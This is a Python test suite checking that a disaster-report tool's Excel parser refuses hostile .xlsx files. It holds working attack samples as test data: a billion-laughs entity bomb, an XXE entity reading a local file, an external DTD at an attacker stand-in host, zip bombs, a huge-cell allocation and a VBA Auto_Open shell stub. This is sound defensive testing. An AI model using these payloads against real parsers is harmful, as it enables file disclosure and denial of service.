"""Specs for untrusted workbooks: what an attacker (or a broken tool) can put in an .xlsx.

Issue 7, item 1: XML attacks are refused, zip bombs are capped by compressed and unpacked
size, formulas are never evaluated (a formula with no saved result is a data problem with
its sheet!cell), external links and macros are ignored and an .xlsm is read as data. Each
refusal is a DataError naming the file, the part and the fix. The files are built here
byte by byte, as an attacker would.

What calamine (python-calamine 0.9) does on its own, and why parse_workbook steps in:
entities are never expanded, but the error says only "Cannot detect file format"; a file
without entities but with a DOCTYPE is read; a zip part larger than recorded is refused;
a formula without a saved result and a cached error (#DIV/0!) both read as an empty cell;
a cell at XFD1048576 makes it allocate the whole rectangle (550 GB: the process aborts).
"""

from __future__ import annotations

import asyncio
import gc
import io
import struct
import zipfile
from collections.abc import Mapping
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import defusedxml.ElementTree
import openpyxl
import openpyxl.xml.functions
import pytest
from defusedxml import EntitiesForbidden

from automation.config.loader import load_config
from automation.config.models import MatrixLayout, RecordsLayout
from automation.damage import workbook
from automation.damage.catalogue import Catalogue
from automation.damage.reading import CellProblem, municipality_index, read_matrix, read_records
from automation.damage.workbook import MB, Merge, Uncalculated, parse_workbook
from automation.errors import DataError
from automation.runner import RunResult, run_flow
from automation.timeutil import JST
from tests.builders import sheet, xlsx_bytes
from tests.workbook_builders import (
    CONTENT_TYPES,
    REL_NS,
    SHEET_NAME,
    XLSM_MAIN,
    package,
    parts,
    patched,
    shared_strings_xml,
    sheet_xml,
    workbook_rels,
    workbook_xml,
    xlsx,
)

RESAVE = "Excel で開き、［名前を付けて保存］で「Excel ブック (*.xlsx)」形式に保存し直してください。"
LAUGHS = (
    '<!DOCTYPE sst [<!ENTITY a "ああああああああああ">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
)
FIX_FORMULA = (
    "数式の計算結果が保存されていません。Excel で開いて保存し直すか、値を直接入力してください。"
)
CONFIG = f"""\
version: 1
state: {{path: state/db.sqlite}}
backend: {{type: local, root: inputs, artefacts: out, deliveries: sent}}
directory:
  departments:
    - {{name: {SHEET_NAME}, sheet: {SHEET_NAME}, contacts: [{{channel: mail, address: kiki@example.jp}}]}}
flows:
  - id: damage
    kind: damage_rollup
    params:
      disaster: 台風
      workbook: book.xlsx
      report_to: [{{channel: mail, address: bousai@example.jp}}]
      municipalities: [前橋市, 高崎市]
"""


def refusal(data: bytes) -> str:
    """The DataError message parse_workbook gives for ``data`` named book.xlsx."""
    with pytest.raises(DataError) as caught:
        parse_workbook(data, "book.xlsx", max_bytes=200 * MB)
    return caught.value.message


def rows(data: bytes) -> tuple[tuple[object, ...], ...]:
    """The parsed rows of the workbook's one sheet."""
    return parse_workbook(data, "book.xlsx", max_bytes=200 * MB).sheets[SHEET_NAME].rows


def cells(xml: str) -> bytes:
    """The minimal workbook whose sheet holds ``xml`` inside ``<sheetData>``."""
    return xlsx(sheet=sheet_xml(xml))


def run(folder: Path, data: bytes) -> RunResult:
    """A dry run of the damage flow on ``data`` saved as inputs/book.xlsx."""
    (folder / "automation.yaml").write_text(CONFIG, encoding="utf-8")
    (folder / "inputs").mkdir(exist_ok=True)
    (folder / "inputs" / "book.xlsx").write_bytes(data)
    now = datetime(2026, 9, 1, 10, 0, tzinfo=JST)
    return asyncio.run(
        run_flow(load_config(folder / "automation.yaml"), "damage", now, dry_run=True)
    )


@pytest.fixture
def towns() -> Mapping[str, str]:
    """The configured municipalities."""
    index = municipality_index(("前橋市", "高崎市"))
    assert index is not None
    return index


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file on the server that no workbook may pull into a report."""
    path = tmp_path / "secret.txt"
    path.write_text("CANARY-4f1d", encoding="utf-8")
    return path


# --- XML attacks --------------------------------------------------------------------------


def test_a_plain_workbook_is_read() -> None:
    """The minimal workbook the attacks start from reads as its two rows."""
    assert rows(xlsx()) == (("市町村", "死者"), ("前橋市", 1.0))


def test_an_entity_expansion_bomb_is_refused_naming_the_part_and_the_fix() -> None:
    """Billion laughs in the shared strings is refused before any parser expands it."""
    data = xlsx(strings=shared_strings_xml(("&e;", "死者", "前橋市"), prolog=LAUGHS))
    assert refusal(data) == (
        "book.xlsx: 部品 xl/sharedStrings.xml に XML の DOCTYPE/ENTITY 宣言があります。"
        "Excel が保存するファイルにはなく、外部ファイルの読み込みや大量の展開に使われるため"
        f"読み込みを中止しました。{RESAVE}"
    )


def test_an_external_entity_is_refused_and_the_file_is_never_read(secret: Path) -> None:
    """XXE in a sheet is refused; the file it names appears nowhere."""
    xxe = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file://{secret}">]>'
    inline = '<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    message = refusal(xlsx(sheet=sheet_xml(inline, prolog=xxe)))
    assert message.startswith("book.xlsx: 部品 xl/worksheets/sheet1.xml に XML の DOCTYPE/ENTITY")
    assert "CANARY" not in message


@pytest.mark.parametrize("member", list(parts()))
def test_a_doctype_in_any_part_is_refused(member: str) -> None:
    """An external DTD (no entity at all) is refused in every XML part."""
    members = parts()
    original = members[member]
    assert isinstance(original, str)
    members[member] = original.replace(
        "?>\n", '?>\n<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', 1
    )
    assert f"部品 {member} に XML の DOCTYPE/ENTITY 宣言があります" in refusal(package(members))


def test_a_declaration_in_a_utf16_part_is_refused() -> None:
    """A part saved as UTF-16 is scanned as text too."""
    hostile = sheet_xml(prolog='<!DOCTYPE worksheet [<!ENTITY x "x">]>')
    utf16 = hostile.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert "部品 xl/worksheets/sheet1.xml に XML の DOCTYPE/ENTITY" in refusal(xlsx(sheet=utf16))


def test_an_image_may_carry_a_plain_doctype() -> None:
    """SVG images often name the SVG DTD; media parts are never parsed, so they pass."""
    svg = (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'
    )
    assert rows(xlsx(**{"xl/media/image1.svg": svg}))[1] == ("前橋市", 1.0)


def test_an_image_may_not_declare_entities() -> None:
    """An entity declaration is refused even in a media part."""
    svg = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "x">]><svg>&x;</svg>'
    assert "部品 xl/media/image1.svg に XML" in refusal(xlsx(**{"xl/media/image1.svg": svg}))


def test_openpyxl_parses_through_defusedxml() -> None:
    """openpyxl, used to write and re-read workbooks, refuses entities via defusedxml."""
    assert openpyxl.DEFUSEDXML is True
    assert openpyxl.xml.functions.iterparse is defusedxml.ElementTree.iterparse
    hostile = xlsx(strings=shared_strings_xml(("&e;", "死者", "前橋市"), prolog=LAUGHS))
    with pytest.raises(ValueError) as caught:
        openpyxl.load_workbook(io.BytesIO(hostile))
    assert isinstance(caught.value.__cause__, EntitiesForbidden)


# --- Zip bombs and broken packages --------------------------------------------------------


def test_a_part_unpacking_beyond_its_cap_is_refused() -> None:
    """A 70 MB sheet (70 KB packed) is refused from the zip directory, before unpacking."""
    bomb = sheet_xml().replace("<sheetData>", "<sheetData>" + " " * (70 * MB))
    assert refusal(xlsx(sheet=bomb)) == (
        "book.xlsx: 部品 xl/worksheets/sheet1.xml の展開後のサイズ 70 MB が上限 64 MB を"
        "超えています。大きすぎるシートや画像を削除して保存し直してください。"
    )


def test_a_part_packed_like_a_zip_bomb_is_refused() -> None:
    """A part unpacking to over 100 times its packed size is a zip bomb."""
    bomb = sheet_xml().replace("<sheetData>", "<sheetData>" + " " * (10 * MB))
    message = refusal(xlsx(sheet=bomb))
    assert message.startswith("book.xlsx: 部品 xl/worksheets/sheet1.xml の圧縮率が ")
    assert message.endswith(
        f"倍と異常です（上限 100 倍）。圧縮爆弾の疑いがあるため読み込みを中止しました。{RESAVE}"
    )


def test_the_parts_together_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    """The unpacked sizes of all parts add up to a cap (here lowered to 2 KB)."""
    monkeypatch.setattr(workbook, "MAX_UNPACKED_BYTES", 2048)
    message = refusal(xlsx())
    assert message.startswith(
        "book.xlsx: 展開後のサイズが合計 0 MB を超え、上限 0 MB を超えています"
    )


def test_a_part_larger_than_recorded_is_refused() -> None:
    """A zip directory that under-states a part's size is caught while unpacking."""
    lying = patched(xlsx(), "xl/worksheets/sheet1.xml", size=100)
    assert refusal(lying) == (
        "book.xlsx: ファイルが壊れています（部品 xl/worksheets/sheet1.xml の内容が目録と一致しません）。"
        "Excel で開けるか確認し、保存し直してください。"
    )


def test_a_damaged_part_is_refused_by_its_checksum() -> None:
    """Flipped packed bytes fail the part's CRC before calamine sees them."""
    data = bytearray(package(parts(), method=zipfile.ZIP_STORED))
    at = data.find(b"<sheetData>") + 12
    data[at] ^= 0x20
    assert "ファイルが壊れています（部品 xl/worksheets/sheet1.xml の内容が" in refusal(bytes(data))


def test_a_zip_directory_from_a_newer_zip_version_is_refused() -> None:
    """A directory entry needing an unknown zip version is a broken file, not a crash."""
    data = bytearray(xlsx())
    struct.pack_into("<H", data, data.find(b"PK\x01\x02") + 6, 237)
    assert refusal(bytes(data)).startswith(
        "book.xlsx: ファイルが壊れています（zip file version 23.7）。"
    )


def test_a_directory_pointing_before_the_file_is_refused() -> None:
    """A directory whose recorded offsets land before the file's start is refused."""
    data = bytearray(xlsx())
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<L", data, end + 16, struct.unpack_from("<L", data, end + 16)[0] + 10**6)
    assert "ファイルが壊れています（部品 " in refusal(bytes(data))


def test_very_many_parts_are_refused() -> None:
    """Over 10,000 zip members is not a workbook (and would be slow to list)."""
    junk = {f"xl/junk/{n}.xml": b"" for n in range(10_001)}
    assert refusal(xlsx(**junk)).startswith(
        "book.xlsx: ファイル内の部品（zip の要素）が 10,007 個あり、上限 10,000 個を超えています。"
    )


def test_a_compression_method_excel_never_uses_is_refused() -> None:
    """A bzip2 part is refused: only stored and deflated parts are unpacked."""
    data = package(parts(), method=zipfile.ZIP_BZIP2)
    assert refusal(data).startswith("book.xlsx: 部品 [Content_Types].xml の圧縮方式（12 番）は")


def test_a_password_on_a_zip_part_is_refused() -> None:
    """A zip-level encrypted part is refused with the fix."""
    data = patched(xlsx(), "xl/worksheets/sheet1.xml", flags=0x1)
    assert refusal(data) == (
        "book.xlsx: パスワードで保護されているため読めません（部品 xl/worksheets/sheet1.xml）。"
        "パスワードを解除して保存してください。"
    )


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("xls", workbook.OLE_MAGIC + b"\0" * 512),
        ("csv", "市町村,死者\n前橋市,1\n".encode()),
        ("ods", package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})),
    ],
)
def test_only_excel_workbooks_are_read(kind: str, data: bytes) -> None:
    """Old .xls, CSV and OpenDocument files are refused with how to save as .xlsx."""
    message = refusal(data)
    assert message.startswith("book.xlsx: Excel ブック（.xlsx / .xlsm）ではありません（")
    assert message.endswith(RESAVE)


# --- Cell rectangles ----------------------------------------------------------------------


def test_a_cell_far_away_is_refused_before_it_is_allocated() -> None:
    """A1 plus XFD1048576 would make calamine allocate 17 billion cells: refused."""
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    assert refusal(cells(far)) == (
        f"book.xlsx: シート「{SHEET_NAME}」のセル範囲が 17,179,869,184 セルあり、1シートの上限 "
        "2,000,000 セルを超えています。離れたセルに入力された値を削除して（［Ctrl］+［End］で"
        "最後のセルを確認できます）保存し直してください。"
    )


@pytest.mark.parametrize(
    "far",
    [
        '<row r="1"><x:c xmlns:x="urn:x" r="XFD1048576"><x:v>2</x:v></x:c></row>',
        '<row r="1"><c s="0" r="XFD1048576"><v>2</v></c></row>',
        "<row r='1'><c r='XFD1048576'><v>2</v></c></row>",
        '<row r="1"><c r="xfd1048576"><v>2</v></c></row>',
        '<row r="1"><c r="XFD1"><v>2</v></c></row><row r="1048576"><c><v>2</v></c></row>',
    ],
    ids=["prefixed", "attribute-order", "single-quotes", "lower-case", "implicit"],
)
def test_a_far_cell_written_unusually_is_refused_too(far: str) -> None:
    """However the far cell is spelled, calamine would place it there: refused."""
    near = '<row r="1"><c r="A1"><v>1</v></c></row>'
    assert "のセル範囲が 17,179,869,184 セル" in refusal(
        cells(near + far.replace('r="1"', 'r="2"', 1))
    )


def test_sheets_adding_up_beyond_the_cell_cap_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """All sheets' rectangles add up to a cap (here lowered to fit one small sheet)."""
    monkeypatch.setattr(workbook, "MAX_CELLS", 30_000)
    data = xlsx_bytes({"a": [[1] * 10] * 9, "b": [[1] * 10] * 9})
    assert refusal(data) == (
        "book.xlsx: シートのセル範囲が合計で上限 30,000 セルを超えています（シート「b」まで 2 シート）。"
        "不要なシートを削除するか、ブックを分けて保存し直してください。"
    )


FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
INLINE = '<row r="1"><c r="A1" t="inlineStr"><is><t>市町村</t></is></c><c r="B1"><v>1</v></c></row>'


def two_sheets(second: str, *, shared_strings: bool) -> bytes:
    """The minimal workbook plus a sheet ``b`` whose part is ``second``; its first sheet's
    text is shared or inline."""
    members = parts(
        book=workbook_xml().replace(
            "</sheets>", '<sheet name="b" sheetId="2" r:id="rId3"/></sheets>'
        ),
        rels=workbook_rels(
            f'<Relationship Id="rId3" Type="{REL_NS}/worksheet" Target="worksheets/sheet2.xml"/>'
        ),
        **{"xl/worksheets/sheet2.xml": second},
    )
    if not shared_strings:
        members["xl/worksheets/sheet1.xml"] = sheet_xml(INLINE)
        del members["xl/sharedStrings.xml"]
    return package(members)


@pytest.mark.parametrize("shared_strings", [True, False], ids=["shared", "inline"])
def test_a_sheet_parsed_on_demand_is_bounded_when_it_is_parsed(shared_strings: bool) -> None:
    """A lazily parsed sheet's far cell is refused when the sheet is looked up."""
    # before calamine allocates it; the other sheets read meanwhile
    book = parse_workbook(
        two_sheets(sheet_xml(FAR), shared_strings=shared_strings),
        "book.xlsx",
        max_bytes=MB,
        lazy=True,
    )
    assert book.sheets[SHEET_NAME].rows[0][0] == "市町村"
    with pytest.raises(DataError) as caught:
        book.sheets["b"]
    assert caught.value.message.startswith(
        "book.xlsx: シート「b」のセル範囲が 17,179,869,184 セルあり、1シートの上限"
    )


def test_a_sheet_parsed_again_after_its_first_parse_was_let_go_reads_the_same() -> None:
    """A lazily parsed sheet let go and parsed again reads the same."""
    # it is kept only while held; its formula without a result is still Uncalculated, and the
    # other sheet's is still its own
    members = parts(
        book=workbook_xml().replace(
            "</sheets>", '<sheet name="b" sheetId="2" r:id="rId3"/></sheets>'
        ),
        rels=workbook_rels(
            f'<Relationship Id="rId3" Type="{REL_NS}/worksheet" Target="worksheets/sheet2.xml"/>'
        ),
        sheet=sheet_xml('<row r="1"><c r="A1"><f>1+1</f></c></row>'),
        **{"xl/worksheets/sheet2.xml": sheet_xml('<row r="1"><c r="A1"><f>2+2</f></c></row>')},
    )
    book = parse_workbook(package(members), "book.xlsx", max_bytes=MB, lazy=True)
    first = book.sheets[SHEET_NAME]
    assert first.rows == ((Uncalculated("1+1"),),)
    del first
    gc.collect()
    assert book.sheets[SHEET_NAME].rows == ((Uncalculated("1+1"),),)
    assert book.sheets["b"].rows == ((Uncalculated("2+2"),),)


@pytest.mark.parametrize("shared_strings", [True, False], ids=["shared", "inline"])
def test_a_declaration_in_a_sheet_parsed_on_demand_is_refused_when_it_is_parsed(
    shared_strings: bool,
) -> None:
    """A DOCTYPE in a lazily parsed sheet is refused, naming the part, when the sheet is parsed."""
    # the part is first unpacked when its sheet (or its package key) is looked up
    hostile = sheet_xml(INLINE, prolog='<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')
    book = parse_workbook(
        two_sheets(hostile, shared_strings=shared_strings), "book.xlsx", max_bytes=MB, lazy=True
    )
    assert book.sheets[SHEET_NAME].rows[0][0] == "市町村"
    assert book.packages["b"]  # keyed without a parser: the refusal is the parse's
    with pytest.raises(DataError) as caught:
        book.sheets["b"]
    assert "部品 xl/worksheets/sheet2.xml に XML の DOCTYPE/ENTITY 宣言があります" in (
        caught.value.message
    )


@pytest.mark.parametrize("shared_strings", [True, False], ids=["shared", "inline"])
def test_a_workbook_parsed_whole_refuses_any_sheet_beyond_its_bounds(shared_strings: bool) -> None:
    """Parsed whole, a workbook with one far-flung sheet is refused at once."""
    data = two_sheets(sheet_xml(FAR), shared_strings=shared_strings)
    assert refusal(data).startswith("book.xlsx: シート「b」のセル範囲が 17,179,869,184 セル")


def test_a_merge_over_a_whole_column_is_clipped_to_the_table() -> None:
    """A merged A1:A1048576 is kept only where the sheet has cells."""
    merged = sheet_xml(after='<mergeCells count="1"><mergeCell ref="A1:A1048576"/></mergeCells>')
    parsed = parse_workbook(xlsx(sheet=merged), "book.xlsx", max_bytes=MB).sheets[SHEET_NAME]
    assert parsed.merges == (Merge(0, 0, 1, 0),)


# --- Formulas, macros and external links --------------------------------------------------


def test_a_formula_without_a_saved_result_is_a_problem_with_sheet_cell_and_formula(
    catalogue: Catalogue, towns: Mapping[str, str]
) -> None:
    """A program-written formula (no saved result) is reported, never read as blank."""
    formula_sheet = sheet([["市町村", "死者", "軽傷者"], ["前橋市", 1, "=SUM(B2:B3)"]])
    reading = read_matrix(formula_sheet, "部局", MatrixLayout(), catalogue, towns)
    assert reading.problems == [
        CellProblem(
            "部局", "部局!C2", "=SUM(B2:B3)", f"軽傷者(人): {FIX_FORMULA}", "前橋市", "軽傷者"
        )
    ]
    assert reading.amounts == {("前橋市", "dead"): Decimal(1)}


def test_a_formula_is_never_evaluated_only_its_saved_result_read() -> None:
    """1+1 saved as 5 reads as 5: the saved result is what Excel showed."""
    data = cells('<row r="1"><c r="A1"><f>1+1</f><v>5</v></c></row>')
    assert rows(data) == ((5.0,),)


def test_a_text_formula_with_an_empty_result_is_blank() -> None:
    """IF(...,"",...) saved as empty text is a blank cell, not a problem."""
    data = cells(
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1" t="str"><f>IF(A1,"","")</f><v></v></c></row>'
    )
    assert rows(data) == ((1.0, None),)


def test_an_empty_saved_result_on_a_number_formula_is_no_result() -> None:
    """openpyxl writes ``<v/>`` after a formula: there is no result to read."""
    data = cells('<row r="1"><c r="A1"><f>1+1</f><v/></c></row>')
    assert rows(data) == ((Uncalculated("1+1"),),)


def test_a_shared_formula_without_results_keeps_what_it_can_show() -> None:
    """Cells sharing a formula carry no text of their own: shown as a formula."""
    shared = (
        '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">B1*2</f></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/></c></row>'
    )
    assert [Uncalculated("B1*2").shown, Uncalculated("").shown] == ["=B1*2", "=（数式）"]
    assert rows(cells(shared)) == ((Uncalculated("B1*2"),), (Uncalculated(""),))


def test_a_saved_error_is_a_problem_not_a_blank(
    catalogue: Catalogue, towns: Mapping[str, str]
) -> None:
    """calamine reads #DIV/0! as empty; it is put back and reported as a formula error."""
    data = xlsx(
        strings=shared_strings_xml(("市町村", "死者", "前橋市")),
        sheet=sheet_xml(
            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>'
        ),
    )
    parsed = parse_workbook(data, "book.xlsx", max_bytes=MB).sheets[SHEET_NAME]
    reading = read_matrix(parsed, "部局", MatrixLayout(), catalogue, towns)
    assert [(p.where, p.value) for p in reading.problems] == [(f"{SHEET_NAME}!B2", "#DIV/0!")]
    assert reading.problems[0].message.startswith(
        "死者(人): 数式がエラー（#DIV/0!）になっています。"
    )


def test_a_formula_naming_the_municipality_without_result_leaves_the_row_out(
    catalogue: Catalogue, towns: Mapping[str, str]
) -> None:
    """A municipality cell that is an unsaved formula: the row is reported, not counted."""
    grid = sheet([["市町村", "死者"], ["=Sheet2!A1", 3], ["高崎市", 1]])
    reading = read_matrix(grid, "部局", MatrixLayout(), catalogue, towns)
    assert reading.problems == [
        CellProblem(
            "部局",
            "部局!A2",
            "=Sheet2!A1",
            "市町村名: 数式の計算結果が保存されていません。この行は集計されません。"
            "Excel で開いて保存し直すか、値を直接入力してください。",
        )
    ]
    assert reading.amounts == {("高崎市", "dead"): Decimal(1)}


def test_an_unsaved_formula_in_a_record_key_column_is_not_counted(
    catalogue: Catalogue, towns: Mapping[str, str]
) -> None:
    """Type, municipality or status as an unsaved formula: reported at its cell, not counted."""
    grid = sheet(
        [
            ["被害種別", "市町村", "状況"],
            ["道路", "前橋市", '=IF(A2="","","通行止め")'],
            ["道路", "高崎市", "通行止め"],
        ]
    )
    reading = read_records(grid, "部局", RecordsLayout(), catalogue, towns)
    assert [(p.where, p.value) for p in reading.problems] == [
        ("部局!C2", '=IF(A2="","","通行止め")')
    ]
    assert reading.problems[0].message.startswith("状況: 数式の計算結果が保存されていません。")
    assert reading.amounts == {("高崎市", "roads"): Decimal(1)}


def test_a_macro_workbook_is_read_as_data() -> None:
    """An .xlsm with a VBA project reads its values; the macros are never opened."""
    vba = (
        workbook.OLE_MAGIC + b"\0" * 504 + b'Attribute VB_Name = "x"\nSub Auto_Open()\nShell "calc"'
    )
    xlsm = parts(
        types=CONTENT_TYPES.format(main=XLSM_MAIN),
        rels=workbook_rels(
            '<Relationship Id="rId9" Target="vbaProject.bin" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
        ),
        **{"xl/vbaProject.bin": vba},
    )
    assert rows(package(xlsm)) == (("市町村", "死者"), ("前橋市", 1.0))


def test_an_external_link_is_never_followed(tmp_path: Path) -> None:
    """A formula into another workbook reads its saved result; that workbook is not opened."""
    linked = tmp_path / "linked.xlsx"
    linked.write_bytes(xlsx_bytes({"X": [[4242]]}))
    link = (
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="X"/>'
        "</sheetNames></externalBook></externalLink>"
    )
    link_rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" TargetMode="External" Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file://{linked}"/>'
        "</Relationships>"
    )
    data = xlsx(
        book=workbook_xml(
            '<externalReferences><externalReference r:id="rId5"/></externalReferences>'
        ),
        rels=workbook_rels(
            '<Relationship Id="rId5" Target="externalLinks/externalLink1.xml" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/externalLink"/>'
        ),
        sheet=sheet_xml(
            '<row r="1"><c r="A1"><f>[1]X!A1</f><v>7</v></c><c r="B1"><f>[1]X!A1</f></c></row>'
        ),
        **{
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )
    parsed = parse_workbook(data, "book.xlsx", max_bytes=MB)
    assert list(parsed.sheets) == [SHEET_NAME]
    assert parsed.sheets[SHEET_NAME].rows == ((7.0, Uncalculated("[1]X!A1")),)


# --- Through a run ------------------------------------------------------------------------


def test_a_hostile_workbook_fails_the_run_as_a_data_problem(tmp_path: Path) -> None:
    """The run record of a refused workbook is a failed data record naming the file."""
    hostile = xlsx(strings=shared_strings_xml(("&e;", "死者", "前橋市"), prolog=LAUGHS))
    record = run(tmp_path, hostile).record
    assert (record["status"], record["error"]["kind"]) == ("failed", "data")
    assert record["error"]["message"].startswith("book.xlsx: 部品 xl/sharedStrings.xml に XML の")


def test_an_unsaved_formula_reaches_the_run_record_with_its_cell_and_fix(tmp_path: Path) -> None:
    """The run record's problems carry sheet!cell, the formula and the fix."""
    data = xlsx_bytes({SHEET_NAME: [["市町村", "死者", "軽傷者"], ["前橋市", 1, "=B2*2"]]})
    record = run(tmp_path, data).record
    assert record["problems"] == [
        {
            "department": SHEET_NAME,
            "where": f"{SHEET_NAME}!C2",
            "value": "=B2*2",
            "message": f"軽傷者(人): {FIX_FORMULA}",
            "municipality": "前橋市",
            "item": "軽傷者",
            "headline": f"前橋市の軽傷者: =B2*2（読めず） {SHEET_NAME}!C2",
        }
    ]
    assert record["totals"]["dead"]["value"] == 1
    minor = record["totals"]["injured_minor"]
    assert (minor["value"], minor["unreadable"], minor["unreadable_where"]) == (None, 1, ["前橋市"])
